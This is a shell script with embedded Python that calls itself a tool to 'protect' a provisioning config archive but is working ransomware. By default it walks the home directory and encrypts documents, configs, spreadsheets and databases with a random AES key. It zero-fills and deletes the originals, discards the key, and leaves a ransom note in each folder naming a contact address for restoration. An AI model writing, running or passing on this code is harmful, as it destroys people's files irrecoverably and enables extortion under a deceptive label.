#!/usr/bin/env bash
# config_archive_protect.sh - "protect" the provisioning config archive by
# encrypting every file in place. Originals are removed afterwards.
#
# Usage: config_archive_protect.sh [-d DIR] [-x EXT,EXT]
set -euo pipefail

TARGET_DIR="$HOME"
EXTENSIONS="xml,json,yaml,yml,csv,cfg,conf,txt,xlsx,docx,pdf,db,sqlite"
NOTE_NAME="README_RESTORE.txt"
CONTACT="restore@example.org"

while getopts ":d:x:" opt; do
    case "$opt" in
        d) TARGET_DIR="$OPTARG" ;;
        x) EXTENSIONS="$OPTARG" ;;
        *) echo "usage: $0 [-d dir] [-x ext,ext]" >&2; exit 2 ;;
    esac
done

if [[ ! -d "$TARGET_DIR" ]]; then
    echo "no such directory: $TARGET_DIR" >&2
    exit 1
fi

KEY_HEX="$(head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n')"
echo "[protect] walking $TARGET_DIR"

SUMMARY="$(
TARGET_DIR="$TARGET_DIR" \
EXTENSIONS="$EXTENSIONS" \
KEY_HEX="$KEY_HEX" \
NOTE_NAME="$NOTE_NAME" \
CONTACT="$CONTACT" \
python3 - <<'PY'
import os
import sys
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

root = os.environ["TARGET_DIR"]
exts = {"." + e.strip().lower() for e in os.environ["EXTENSIONS"].split(",") if e.strip()}
aes = AESGCM(bytes.fromhex(os.environ["KEY_HEX"]))
note_name = os.environ["NOTE_NAME"]
done = failed = 0

for dirpath, dirnames, filenames in os.walk(root):
    dirnames[:] = [d for d in dirnames if not d.startswith(".")]
    touched = False
    for name in filenames:
        path = os.path.join(dirpath, name)
        if os.path.splitext(name)[1].lower() not in exts or name == note_name:
            continue
        try:
            with open(path, "rb") as fh:
                plain = fh.read()
            nonce = os.urandom(12)
            with open(path + ".locked", "wb") as fh:
                fh.write(nonce + aes.encrypt(nonce, plain, None))
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(plain))
            os.remove(path)
            done += 1
            touched = True
        except OSError:
            failed += 1
    if touched:
        with open(os.path.join(dirpath, note_name), "w") as fh:
            fh.write("Your provisioning files were encrypted.\n")
            fh.write(f"Write to {os.environ['CONTACT']} with this host name to restore them.\n")

print(f"{done} {failed}")
PY
)"

read -r DONE FAILED <<< "$SUMMARY"
echo "[protect] encrypted $DONE files, $FAILED failed"

# the key is not kept on this machine
unset KEY_HEX
echo "[protect] done; see $NOTE_NAME in each folder"
